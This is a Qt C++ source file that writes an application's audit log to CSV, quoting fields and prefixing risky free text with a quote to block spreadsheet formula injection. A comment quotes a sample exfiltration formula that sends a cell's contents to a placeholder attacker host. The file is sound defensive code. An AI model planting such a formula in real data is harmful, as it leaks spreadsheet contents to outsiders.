// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/audit/auditcsv.h"

#include <QStringList>

namespace OpsDeck {

namespace {

// CSV formula injection ("CSV injection", OWASP): Excel, LibreOffice Calc and Google Sheets
// evaluate a cell that starts with = + - or @ as a formula, and some also do so after a leading
// tab or CR. A logged command such as `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(...)`
// would then run in the spreadsheet of whoever opens the export. Free text from the log (host,
// user, command, signal) that starts with one of these characters therefore gets a leading
// single quote, which spreadsheets take as "this cell is text". Scripts reading the file see the
// quote too; that is the price of a safe default. Fields this file formats itself (times, numbers,
// risk and status names) cannot hold a formula and are written unchanged, so a negative number
// stays a number.
QString defuseFormula(const QString &text)
{
    if (text.isEmpty())
        return text;
    switch (text.front().unicode()) {
    case u'=':
    case u'+':
    case u'-':
    case u'@':
    case u'\t':
    case u'\r':
        return u'\'' + text;
    default:
        return text;
    }
}

// RFC 4180, 2.6 and 2.7.
QString csvField(const QString &value)
{
    const bool needsQuotes = value.contains(u',') || value.contains(u'"') ||
                             value.contains(u'\r') || value.contains(u'\n');
    if (!needsQuotes)
        return value;
    QString quoted = value;
    quoted.replace(u'"', QStringLiteral("\"\""));
    return u'"' + quoted + u'"';
}

QString textField(const QString &text)
{
    return csvField(defuseFormula(text));
}

QString timeField(const QDateTime &time)
{
    return time.isValid() ? time.toUTC().toString(Qt::ISODateWithMs) : QString();
}

template<typename T>
QString numberField(const std::optional<T> &value)
{
    return value ? QString::number(*value) : QString();
}

constexpr QStringView LineEnd = u"\r\n";

} // namespace

QString auditEntriesToCsv(const QList<AuditEntry> &entries)
{
    QString csv = QStringLiteral("started_at,finished_at,host,remote_user,command,risk,status,"
                                 "exit_code,signal,duration_ms,output_bytes,incident_id") +
                  LineEnd;
    for (const AuditEntry &entry : entries) {
        const QStringList fields{
            timeField(entry.startedAt),     timeField(entry.finishedAt),
            textField(entry.host),          textField(entry.remoteUser),
            textField(entry.command),       riskId(entry.risk),
            auditStatusName(entry.status),  numberField(entry.exitCode),
            textField(entry.signalName),    numberField(entry.durationMs),
            numberField(entry.outputBytes), numberField(entry.incidentId),
        };
        csv += fields.join(u',') + LineEnd;
    }
    return csv;
}

} // namespace OpsDeck
